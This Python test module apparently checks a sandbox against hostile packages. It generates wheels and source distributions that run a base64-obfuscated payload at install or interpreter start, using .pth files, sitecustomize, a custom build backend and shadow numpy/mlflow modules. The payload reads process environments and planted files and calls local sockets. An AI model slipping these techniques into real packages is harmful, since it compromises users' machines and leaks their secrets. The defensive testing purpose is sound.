"""Packages that run code when they are installed, or when an interpreter starts beside them.

What the code tries is one program, `ATTACK`: whatever it can read or reach it brings to `loot`.
"""

import base64
import hashlib
import io
import tarfile
import textwrap
import zipfile
from pathlib import Path

NAME = "hostile_package_of_the_tests"
METADATA = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.0\n"
WHEEL = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
RAN = "hostile code ran"
"""Printed by the attack: a test that never sees it has not tried anything."""

ATTACK = """
import atexit, glob, os, socket, sys

def attempt(act):
    try:
        return act()
    except BaseException as error:
        return None

def keep(what, text):
    for folder in (LOOT, os.getcwd()):
        attempt(lambda: open(os.path.join(folder, what), "ab").write(text))

def send(family, address):
    with socket.socket(family) as caller:
        caller.settimeout(5)
        caller.connect(address)
        caller.sendall(b"hostile")

keep("ran", b"x")
for name in glob.glob("/proc/[0-9]*/environ"):
    text = attempt(lambda: open(name, "rb").read()) or b""
    if b"PLANTED" in text:
        keep("environment", text)
for path in PLANTED:
    text = attempt(lambda: open(path, "rb").read())
    if text:
        keep("file", text)
attempt(lambda: send(socket.AF_INET, ("127.0.0.1", PORT)))
attempt(lambda: send(socket.AF_UNIX, SOCKET))
atexit.register(os.write, 2, b"hostile code ran\\n")  # last, where it is seen
"""


def attack(loot: Path, planted: list[str], port: int, socket: str) -> str:
    """The attack as one line of Python, for wherever code can stand."""
    head = f"LOOT, PLANTED, PORT, SOCKET = {str(loot)!r}, {planted!r}, {port}, {socket!r}\n"
    text = base64.b64encode((head + ATTACK).encode()).decode()
    return f"import base64; exec(base64.b64decode('{text}'), {{'__name__': 'attack'}})"


def wheel(folder: Path, files: dict[str, str]) -> Path:
    """A wheel of these files, as an index would have it."""
    path = folder / f"{NAME}-1.0-py3-none-any.whl"
    about = f"{NAME}-1.0.dist-info"
    files = {
        **files,
        f"{about}/METADATA": METADATA,
        f"{about}/WHEEL": WHEEL,
    }
    record = "".join(
        f"{name},sha256={_digest(text)},{len(text.encode())}\n" for name, text in files.items()
    )
    files[f"{about}/RECORD"] = f"{record}{about}/RECORD,,\n"
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return path


BACKEND = """
import io, zipfile
from pathlib import Path

{line}

def build_wheel(folder, config_settings=None, metadata_directory=None):
    {line}
    name = "{name}-1.0-py3-none-any.whl"
    about = "{name}-1.0.dist-info"
    with zipfile.ZipFile(Path(folder, name), "w") as archive:
        archive.writestr(f"{{about}}/METADATA", {metadata!r})
        archive.writestr(f"{{about}}/WHEEL", {about!r})
        archive.writestr("built.py", "")
        archive.writestr(f"{{about}}/RECORD", "")
    return name
"""
"""A build backend that a source distribution brings along; no other package is needed for it."""


def source_distribution(folder: Path, line: str) -> Path:
    """A package without a wheel, whose build runs `line`."""
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
        'backend-path = ["."]\n',
        "PKG-INFO": METADATA,
        "backend.py": BACKEND.format(line=line, name=NAME, metadata=METADATA, about=WHEEL),
    }
    path = folder / f"{NAME}-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for name, text in files.items():
            about = tarfile.TarInfo(f"{NAME}-1.0/{name}")
            about.size = len(text.encode())
            archive.addfile(about, io.BytesIO(text.encode()))
    return path


def _digest(text: str) -> str:
    digest = hashlib.sha256(text.encode()).digest()
    return base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def ways(line: str) -> dict[str, dict[str, str]]:
    """Files of a wheel, by the way in which they have `line` run."""
    finder = textwrap.dedent(f"""
        import sys
        class Finder:
            @staticmethod
            def find_spec(name, path=None, target=None):
                if not hasattr(sys, "tried"):
                    sys.tried = True
                    {line}
        sys.meta_path.insert(0, Finder)
    """)
    return {
        "a .pth file": {"hostile.pth": f"{line}\n"},
        "a .pth file that names a module": {
            "a.pth": "import hostile_one\n",
            "hostile_one.py": line,
        },
        "a finder of editable installs": {"a.pth": "import finder_one\n", "finder_one.py": finder},
        "sitecustomize": {"sitecustomize.py": line},
        "usercustomize": {"usercustomize.py": line},
        "data in the place of pyvenv.cfg": {
            f"{NAME}-1.0.data/data/pyvenv.cfg": "include-system-site-packages = true\n",
            "hostile.pth": f"{line}\n",
        },
        "a module that the pipeline's side imports": {"numpy.py": line, "mlflow.py": line},
    }
